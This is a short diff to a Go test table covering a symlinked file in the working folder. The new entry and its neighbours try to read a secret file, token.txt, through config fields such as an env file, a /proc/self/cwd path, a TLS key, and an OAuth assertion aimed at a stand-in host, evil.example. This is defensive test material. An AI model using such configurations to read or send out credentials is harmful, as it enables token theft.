@@ -39,6 +39,7 @@ var _ = Describe("A file of the working folder that is a link", Label("TT12"), f
 		Entry("as variables", `"envFile":"token.txt",`, `"command":"x"`),
 		Entry("as an included file", `"include":["./token.txt"],`, `"command":"x"`),
 		Entry("by another way into the folder", `"secrets":{"K":{"file":"/proc/self/cwd/token.txt"}},`, uses),
+		Entry("as the key of a client certificate", ``, `"url":"https://host.example/mcp","tls":{"cert":"cert.pem","key":"token.txt"}`),
 		Entry("as an assertion", ``, `"url":"https://host.example/mcp","oauth":{"grant":"jwt-bearer","clientId":"c","issuer":"https://evil.example","assertionFile":"token.txt"}`),
 	)
 
